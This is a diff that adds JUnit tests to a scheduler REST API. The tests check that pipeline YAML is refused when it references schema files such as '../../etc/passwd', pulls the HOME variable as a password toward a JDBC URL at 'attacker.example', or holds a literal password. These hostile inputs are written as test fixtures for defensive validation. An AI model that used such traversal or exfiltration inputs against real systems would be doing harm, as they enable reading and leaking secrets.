@@ -20,6 +20,8 @@ import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
@@ -31,6 +33,7 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
 
 @ExtendWith(ConveyorStackExtension.class)
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
@@ -133,6 +136,60 @@ class SchedulerRestApiTest {
         List<String> problems = texts(answer.json().path("problems"));
         assertThat(problems).anySatisfy(problem -> assertThat(problem).startsWith("bad.yaml:2:14: schedule:"));
         assertThat(problems).anySatisfy(problem -> assertThat(problem).startsWith("bad.yaml:7:14: tasks[0].retries:"));
+    }
+
+    @Test
+    void aSchemaFileReferenceIsRefusedWith422WithoutReadingOrEchoingTheFile(@TempDir Path directory) throws Exception {
+        Path secret = Files.writeString(directory.resolve("passwd"), "root:x:0:0:the-secret-line");
+        for (String reference : List.of(secret.toString(), "../../etc/passwd")) {
+            Answer answer = post("/pipelines?file=" + directory.resolve("snoop.yaml"), TEXT_YAML, """
+                    name: snoop
+                    tasks:
+                      - id: clean
+                        kind: transform
+                        schema: {file: "%s"}
+                    """.formatted(reference));
+
+            assertThat(answer.status()).isEqualTo(422);
+            assertThat(texts(answer.json().path("problems"))).singleElement().asString()
+                    .contains("tasks[0].schema.file: schema files are not read in a deployed pipeline");
+            assertThat(answer.body()).doesNotContain("the-secret-line", "root:");
+        }
+        assertThat(get("/pipelines/snoop").status()).isEqualTo(404);
+    }
+
+    @Test
+    void aPasswordEnvOutsideTheAllowListIsRefusedWith422SoNoVariableCanBeExfiltrated() throws Exception {
+        Answer answer = post("/pipelines?file=exfiltrate.yaml", TEXT_YAML, """
+                name: exfiltrate
+                tasks:
+                  - id: pull
+                    kind: extract
+                    source: {type: jdbc, url: "jdbc:postgresql://attacker.example/x", user: me, passwordEnv: HOME, table: t}
+                """);
+
+        assertThat(answer.status()).isEqualTo(422);
+        assertThat(texts(answer.json().path("problems"))).containsExactly("exfiltrate.yaml:5:94: tasks[0].source.passwordEnv:"
+                + " environment variable HOME is not allowed as a secret (allowed: CONVEYOR_SECRET_*, CONVEYOR_*_PASSWORD;"
+                + " configure conveyor.scheduler.secret-env-allow)");
+        assertThat(get("/pipelines/exfiltrate").status()).isEqualTo(404);
+    }
+
+    @Test
+    void aLiteralPasswordIsRefusedWith422SoItIsNeverStoredOrServed() throws Exception {
+        Answer answer = post("/pipelines?file=clear.yaml", TEXT_YAML, """
+                name: clear
+                tasks:
+                  - id: pull
+                    kind: extract
+                    source: {type: jdbc, url: "jdbc:postgresql://db/crm", password: hunter2, table: t}
+                """);
+
+        assertThat(answer.status()).isEqualTo(422);
+        assertThat(texts(answer.json().path("problems"))).singleElement().asString()
+                .contains("tasks[0].source.password: a literal password is refused in a deployed pipeline");
+        assertThat(answer.body()).doesNotContain("hunter2");
+        assertThat(get("/pipelines/clear").status()).isEqualTo(404);
     }
 
     @Test
